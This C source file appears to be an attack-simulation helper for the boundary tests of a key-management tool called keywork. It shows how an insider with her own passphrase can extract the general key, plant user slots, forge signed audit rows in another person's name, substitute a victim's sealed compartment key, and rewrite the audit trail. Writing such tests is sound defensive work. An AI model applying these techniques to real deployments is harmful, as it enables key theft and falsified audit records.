/*
 * tool_attack.c: what a drop-in worker can do with her own passphrase and
 * write access to the data directory, for the boundary tests (cli_boundary.sh).
 * Never installed. Reads her passphrase from stdin.
 *
 *   tool_attack DIR USER general-key          prints the general key as hex
 *   tool_attack DIR USER plant NAME           appends a slot for NAME (role dropin)
 *   tool_attack DIR USER forge-audit VICTIM   writes an audit row in VICTIM's name,
 *                                             signed with her own key (which an
 *                                             sqlcipher shell has listed as VICTIM's)
 *   tool_attack DIR USER substitute VICTIM    makes a sensitive compartment of her own
 *                                             (a key she knows, the real key id and
 *                                             generation), seals its key to VICTIM's
 *                                             slot and puts it in place of the real one
 *   tool_attack DIR USER append N             appends N audit rows of her own, each
 *                                             hashed and signed as keywork does (after
 *                                             an sqlcipher shell emptied the trail,
 *                                             this rewrites it)
 */
#include <sqlite3.h>
#include <sodium.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "keywork/app.h"
#include "keywork/util.h"
#include <sys/stat.h>
#include <unistd.h>

static void die(const char *what, const struct kw_err *err)
{
	fprintf(stderr, "tool_attack: %s: %s\n", what, err != NULL ? err->msg : "");
	exit(1);
}

/* Replaces VICTIM's sealed sensitive key in the key file with one sealed to her by us. */
static void reseal(const char *keypath, const char *victim, const unsigned char key[32])
{
	FILE *fp = fopen(keypath, "r");
	char line[4096], out[65536] = "", salt_hex[65] = "", want_hex[65];
	unsigned char salt[32], id[32], pk[32], sealed[crypto_box_SEALBYTES + 32];

	if (fp == NULL)
		die("reading the key file", NULL);
	while (fgets(line, sizeof(line), fp) != NULL) {
		char *p;

		if (sscanf(line, "name-salt %64s", salt_hex) == 1) {
			sodium_hex2bin(salt, 32, salt_hex, 64, NULL, NULL, NULL);
			crypto_generichash(id, 32, (const unsigned char *)victim, strlen(victim),
					   salt, 32);
			sodium_bin2hex(want_hex, sizeof(want_hex), id, 32);
		}
		if (strncmp(line, "slot id=", 8) == 0 && strncmp(line + 8, want_hex, 64) == 0 &&
		    (p = strstr(line, " box-pk=")) != NULL) {
			char *sens = strstr(line, " sensitive="), *end, hex[2 * sizeof(sealed) + 1];

			sodium_hex2bin(pk, 32, p + 8, 64, NULL, NULL, NULL);
			crypto_box_seal(sealed, key, 32, pk);
			sodium_bin2hex(hex, sizeof(hex), sealed, sizeof(sealed));
			end = strchr(sens + 1, ' ');
			snprintf(out + strlen(out), sizeof(out) - strlen(out),
				 "%.*s sensitive=%s%s", (int)(sens - line), line, hex,
				 end != NULL ? end : "\n");
			continue;
		}
		snprintf(out + strlen(out), sizeof(out) - strlen(out), "%s", line);
	}
	fclose(fp);
	fp = fopen(keypath, "w");
	if (fp == NULL || fputs(out, fp) < 0 || fclose(fp) != 0)
		die("writing the key file", NULL);
}

/*
 * A sensitive compartment of her own: a whole one, made by keywork in a
 * directory of hers, then told the real one's key id and generation. Its key
 * goes to *key.
 */
static void fake_compartment(const char *dir, const char *key_id, unsigned long gen,
			     const struct kw_secret *pass, unsigned char key[32])
{
	char *path = kw_path_join(dir, KW_SENSITIVE_DB), tmp[] = "/tmp/kw-substitute-XXXXXX";
	char *made, *from, hex[65], sql[512], cmd[1024];
	struct kw_session *ss = NULL;
	struct kw_secret *code = NULL;
	struct kw_err err;
	sqlite3 *db = NULL;

	if (mkdtemp(tmp) == NULL)
		die("mkdtemp", NULL);
	made = kw_path_join(tmp, "d");
	if (kw_session_create(made, "eve", pass, KW_KDF_INTERACTIVE, false, &ss, &code, &err) != 0)
		die("making a directory of her own", &err);
	memcpy(key, ss->ring->sensitive->p, 32);
	kw_session_close(&ss);
	kw_secret_free(&code);
	from = kw_path_join(made, KW_SENSITIVE_DB);
	snprintf(cmd, sizeof(cmd), "cp '%s' '%s' && rm -rf '%s'", from, path, tmp);
	if (system(cmd) != 0)
		die("copying the substitute", NULL);
	sodium_bin2hex(hex, sizeof(hex), key, 32);
	snprintf(sql, sizeof(sql),
		 "PRAGMA key = \"x'%s'\"; UPDATE meta SET value = '%s' WHERE key = 'key_id'; "
		 "UPDATE meta SET value = '%lu' WHERE key = 'generation';",
		 hex, key_id, gen);
	if (sqlite3_open(path, &db) != SQLITE_OK ||
	    sqlite3_exec(db, sql, NULL, NULL, NULL) != SQLITE_OK)
		die("giving the substitute the real identity", NULL);
	sqlite3_close(db);
	chmod(path, 0600);
	free(from);
	free(made);
	free(path);
}

static void sign_cb(void *ctx, const void *msg, size_t len, unsigned char sig[64])
{
	kw_sign(ctx, msg, len, sig);
}

int main(int argc, char **argv)
{
	struct kw_keyfile *kf = NULL;
	struct kw_keyring *ring = NULL;
	struct kw_secret *pass;
	struct kw_err err;
	char line[256], *keypath;
	size_t n;

	if (argc < 4)
		die("usage: tool_attack DIR USER general-key|plant NAME|forge-audit VICTIM|append "
		    "N",
		    NULL);
	if (kw_crypto_init() != 0)
		die("crypto", NULL);
	if (fgets(line, sizeof(line), stdin) == NULL)
		die("no passphrase on stdin", NULL);
	n = strcspn(line, "\n");
	pass = kw_secret_from(line, n);
	keypath = kw_path_join(argv[1], KW_KEY_FILE);
	if (kw_keyfile_load(keypath, &kf, &err) != 0 ||
	    kw_keyfile_unlock(kf, argv[2], pass, &ring, &err) != 0)
		die("unlock", &err);
	if (strcmp(argv[3], "general-key") == 0) {
		char hex[65];

		kw_hex(hex, ring->general->p, 32);
		printf("%s\n", hex);
	} else if (strcmp(argv[3], "substitute") == 0 && argc == 5) {
		unsigned char key[32];

		fake_compartment(argv[1], kw_keyfile_key_id(kf), kw_keyfile_generation(kf), pass,
				 key);
		reseal(keypath, argv[4], key);
	} else if (strcmp(argv[3], "plant") == 0 && argc == 5) {
		unsigned char pk[32];

		if (kw_keyfile_add_user(kf, ring, argv[4], KW_ROLE_DROPIN, pass, KW_KDF_INTERACTIVE,
					pk, &err) != 0 ||
		    kw_keyfile_save(kf, keypath, &err) != 0)
			die("plant", &err);
	} else if ((strcmp(argv[3], "forge-audit") == 0 && argc == 5) ||
		   (strcmp(argv[3], "append") == 0 && argc == 5)) {
		struct kw_secret *g = kw_key_sql(ring->general);
		struct kw_store_keys keys = {
			(const char *)g->p, g->len, NULL, 0, NULL, 0, NULL, 0
		};
		struct kw_signer signer = { ring, sign_cb, { 0 } };
		struct kw_store *st = NULL;
		struct kw_user victim;

		memcpy(signer.pk, ring->sign_pk, 32);
		if (kw_store_open(argv[1], &keys, kw_keyfile_key_id(kf), kw_keyfile_generation(kf),
				  0, &st, &err) != 0)
			die("open", &err);
		if (strcmp(argv[3], "append") == 0) {
			struct kw_user me;

			if (kw_db_user_find(st, argv[2], &me, &err) != 1)
				die("find", &err);
			kw_store_set_actor(st, me.meta.id, KW_ROLE_DROPIN, &signer);
			for (int i = atoi(argv[4]); i > 0; i--)
				if (kw_db_audit(st, "login", NULL, "dropin", &err) != 0)
					die("append", &err);
		} else {
			if (kw_db_user_find(st, argv[4], &victim, &err) != 1)
				die("find", &err);
			kw_store_set_actor(st, victim.meta.id, KW_ROLE_MANAGER, &signer);
			if (kw_db_audit(st, "export", NULL, "forged in another's name", &err) != 0)
				die("forge", &err);
		}
		kw_store_close(&st);
		kw_secret_free(&g);
	} else {
		die("unknown command", NULL);
	}
	kw_keyring_free(&ring);
	kw_keyfile_free(&kf);
	kw_secret_free(&pass);
	free(keypath);
	return 0;
}
